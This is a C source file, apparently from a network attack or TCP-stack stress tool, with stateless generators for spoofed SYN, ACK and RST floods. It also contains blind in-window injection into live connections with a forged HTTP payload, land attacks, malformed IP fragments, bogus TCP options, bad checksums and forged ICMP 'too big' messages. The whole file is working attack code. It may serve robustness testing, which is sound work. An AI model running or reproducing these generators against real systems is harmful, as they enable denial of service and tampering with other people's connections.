/* SPDX-License-Identifier: BSD-3-Clause
 *
 * Attacks that keep no state: each function makes one frame after the other.
 */
#include <inttypes.h>
#include <string.h>

#include "attack.h"

#define WINDOW 60000 /* in-window is up to so far ahead */

const struct atk_lie atk_lies[] = {
#define X(...) { sizeof((uint8_t[]){ __VA_ARGS__ }), { __VA_ARGS__ } },
#include "tbl/lies.h"
#undef X
};
const uint32_t atk_lies_count = sizeof(atk_lies) / sizeof(*atk_lies);

static const uint8_t linux_options[] = { ATK_LINUX_OPTIONS };

void flood_run(struct atk *atk, void (*make)(struct atk *atk, uint64_t n))
{
	uint64_t n = 0;

	while (!atk->count || n < atk->count) {
		if (n % ATK_BATCH == 0 && atk_done(atk))
			break;
		make(atk, n++);
	}
	wire_flush(&atk->wire);
}

/* An address that anybody might have. */
static struct atk_ip flood_anybody(struct atk *atk)
{
	uint64_t dice = atk_random(atk);
	struct atk_ip ip = atk->src;

	if (ip.len == 16) {
		memcpy(ip.b + 8, &dice, 8);
		return ip;
	}
	memcpy(ip.b, &dice, 4);
	ip.b[0] = (uint8_t)(20 + ip.b[0] % 100); /* neither loopback nor a group */
	return ip;
}

static struct atk_seg flood_seg(struct atk *atk, uint8_t flags)
{
	uint64_t dice = atk_random(atk);

	return (struct atk_seg){
		.src = flood_anybody(atk),
		.dst = atk->dst,
		.sport = (uint16_t)(1024 + (dice & 0x7fff)),
		.dport = atk->port,
		.seq = (uint32_t)(dice >> 32),
		.ack = flags & ATK_ACK ? (uint32_t)atk_random(atk) : 0,
		.wnd = 29200,
		.flags = flags,
	};
}

static void make_syn(struct atk *atk, uint64_t n)
{
	struct atk_seg seg = flood_seg(atk, ATK_SYN);

	seg.opt = linux_options;
	seg.opt_len = sizeof(linux_options);
	wire_seg(&atk->wire, &seg);
}

void flood_syn(struct atk *atk)
{
	flood_run(atk, make_syn);
	atk_report(atk, "%s", "");
}

static void make_ack(struct atk *atk, uint64_t n)
{
	struct atk_seg seg = flood_seg(atk, ATK_ACK);

	wire_seg(&atk->wire, &seg);
}

void flood_syns(struct atk *atk, uint64_t count)
{
	for (uint64_t n = 0; n < count; n++)
		make_syn(atk, n);
	wire_flush(&atk->wire);
}

void flood_ack(struct atk *atk)
{
	flood_run(atk, make_ack);
	atk_report(atk, "%s", "");
}

static void make_rst(struct atk *atk, uint64_t n)
{
	struct atk_seg seg = flood_seg(atk, n % 2 ? ATK_RST : ATK_RST | ATK_ACK);

	wire_seg(&atk->wire, &seg);
}

void flood_rst(struct atk *atk)
{
	flood_run(atk, make_rst);
	atk_report(atk, "%s", "");
}

/* Into a connection of which all is known but what the server's next sequence number is, and which
 * bytes of the client's it waits for exactly (RFC 5961). */
static void make_blind(struct atk *atk, uint64_t n)
{
	static const uint8_t flags[] = { ATK_RST, ATK_RST | ATK_ACK, ATK_SYN, ATK_SYN | ATK_ACK,
		ATK_ACK | ATK_PSH, ATK_ACK | ATK_FIN, ATK_FIN, ATK_PSH };
	struct atk_seg seg = flood_seg(atk, flags[n / 2 % sizeof(flags)]);
	uint32_t dice = (uint32_t)atk_random(atk);

	uint8_t opt[12] = { 1, 1, ATK_OPT_TS, 10 };

	memcpy(opt + 4, &dice, 4); /* one in two is not old */
	if (n / 16 % 4) {
		seg.opt = opt;
		seg.opt_len = sizeof(opt);
	}
	seg.src = atk->src;
	seg.sport = atk->sport;
	if (n % 2)
		seg.seq = atk->seq + 1 + dice % WINDOW;
	else if (seg.seq == atk->seq)
		seg.seq--; /* would be right */
	/* never sent, or so old that no window reaches there */
	seg.ack = atk->ack + (1U << 30) + (dice >> 2);
	if (!(seg.flags & (ATK_RST | ATK_SYN))) {
		if (dice & 1)
			seg.seq = atk->seq;
		seg.data = (const uint8_t *)"GET /forged HTTP/1.1\r\n\r\n";
		seg.len = 1 + dice % 24;
	}
	wire_seg(&atk->wire, &seg);
}

void flood_blind(struct atk *atk)
{
	flood_run(atk, make_blind);
	atk_report(atk, "%s", "");
}

static void make_land(struct atk *atk, uint64_t n)
{
	struct atk_seg seg = flood_seg(atk, ATK_SYN);

	seg.src = atk->dst;
	if (n % 2 == 0)
		seg.sport = atk->port;
	wire_seg(&atk->wire, &seg);
}

void flood_land(struct atk *atk)
{
	flood_run(atk, make_land);
	atk_report(atk, "%s", "");
}

static void make_fragment(struct atk *atk, uint64_t n)
{
	static const uint16_t offsets[] = { 0x2000, 0x2001, 1, 2, 0x1fff, 0x3fff };
	uint16_t offset = offsets[n % 6];
	uint8_t payload[64] = { 0x80, 0, 0, 80, [12] = 0x50, [13] = ATK_SYN };
	uint32_t len = n % 4 == 0 ? 8 : 40; /* 8: the flags are in the next piece */
	struct atk_ip from = flood_anybody(atk);
	struct atk_wire *wire = &atk->wire;
	uint8_t *to = wire_next(wire);

	if (from.len == 16) {
		memmove(payload + 8, payload, 40);
		memcpy(payload,
			(uint8_t[]){ 6, 0, (uint8_t)(offset >> 5), (uint8_t)(offset << 3 | 1) }, 4);
		memcpy(payload + 4, &n, 4);
		wire_add(wire, frame_ip(wire, &from, &atk->dst, 44, 0, payload, len + 8, to));
	} else {
		wire_add(wire, frame_ip(wire, &from, &atk->dst, 6, offset, payload, len, to));
	}
}

void flood_fragments(struct atk *atk)
{
	flood_run(atk, make_fragment);
	atk_report(atk, "%s", "");
}

static void make_options(struct atk *atk, uint64_t n)
{
	const struct atk_lie *lie = &atk_lies[n / 2 % atk_lies_count];
	struct atk_seg seg = flood_seg(atk, n % 2 ? ATK_SYN : ATK_ACK);

	seg.opt = lie->b;
	seg.opt_len = lie->len;
	wire_seg(&atk->wire, &seg);
}

void flood_options(struct atk *atk)
{
	flood_run(atk, make_options);
	atk_report(atk, "%s", "");
}

static void make_flags(struct atk *atk, uint64_t n)
{
	struct atk_seg seg = flood_seg(atk, (uint8_t)n);

	if (seg.flags == ATK_SYN)
		seg.flags = ATK_FIN | ATK_PSH | ATK_URG;
	wire_seg(&atk->wire, &seg);
}

void flood_flags(struct atk *atk)
{
	flood_run(atk, make_flags);
	atk_report(atk, "%s", "");
}

static void make_badsum(struct atk *atk, uint64_t n)
{
	struct atk_seg seg = flood_seg(atk, ATK_SYN);
	bool of_ip = n % 2 && seg.src.len == 4;
	uint8_t *to = wire_next(&atk->wire);
	uint32_t len = frame_tcp(&atk->wire, &seg, to);

	to[of_ip ? 14 + 10 : len - 4] ^= 0x55;
	wire_add(&atk->wire, len);
}

void flood_badsum(struct atk *atk)
{
	flood_run(atk, make_badsum);
	atk_report(atk, "%s", "");
}

static void make_icmp(struct atk *atk, uint64_t n)
{
	static const uint32_t mtus[] = { 68, 0, 552, 1280, 1400, 65535 };
	struct atk_ip from = flood_anybody(atk);
	struct atk_seg quoted = {
		.src = atk->dst,
		.dst = n % 4 ? atk->src : from,
		.sport = atk->port,
		.dport = atk->sport,
		.seq = atk->ack + (1U << 28) + (uint32_t)(atk_random(atk) >> 33),
		.len = 1460,
	};
	uint8_t *to = wire_next(&atk->wire);

	wire_add(&atk->wire, frame_too_big(&atk->wire, &from, &quoted, mtus[n % 6], to));
}

void flood_icmp(struct atk *atk)
{
	flood_run(atk, make_icmp);
	atk_report(atk, "%s", "");
}
